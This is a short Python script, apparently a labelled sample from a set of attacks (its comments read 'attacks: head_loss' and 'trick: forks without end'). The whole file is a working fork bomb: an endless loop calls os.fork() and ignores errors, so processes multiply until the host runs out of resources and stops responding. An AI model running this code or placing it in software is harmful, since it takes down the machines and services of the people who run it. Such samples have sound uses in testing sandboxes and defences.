# attacks: head_loss
# trick: forks without end
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
